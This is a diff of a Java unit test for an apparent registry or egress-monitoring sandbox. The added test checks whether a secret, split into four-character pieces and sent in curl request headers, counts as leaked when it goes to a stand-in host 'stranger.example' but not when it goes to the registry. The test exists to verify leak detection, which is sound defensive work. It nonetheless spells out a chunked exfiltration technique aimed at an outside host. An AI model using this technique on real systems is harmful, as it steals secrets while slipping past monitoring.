@@ -152,6 +152,23 @@ class RegistryTest {
         assertThat(inside.all(EgressRefused.class)).isEmpty();
     }
 
+    /** Hundreds of requests of an installation would use up what may be searched in a run. */
+    @Test
+    void whatOnlyTheRegistryCouldPutTogetherIsNotPutTogether() throws InterruptedException {
+        piecemeal(base + "/left");
+        inside.boundary.flush();
+        assertThat(inside.all(BaitLeft.class)).isEmpty();
+
+        piecemeal("http://stranger.example/left");
+        inside.await(BaitLeft.class, b -> b.destination().startsWith("stranger.example"));
+    }
+
+    private void piecemeal(String url) throws InterruptedException {
+        for (int i = 0; i < Inside.SECRET.length(); i += 4) {
+            curl("-H", "x-part: " + Inside.SECRET.substring(i, i + 4), url);
+        }
+    }
+
     @Test
     void npmMayAskForHolesWithItsLogin() throws InterruptedException {
         String url = base + "/-/npm/v1/security/advisories/bulk";
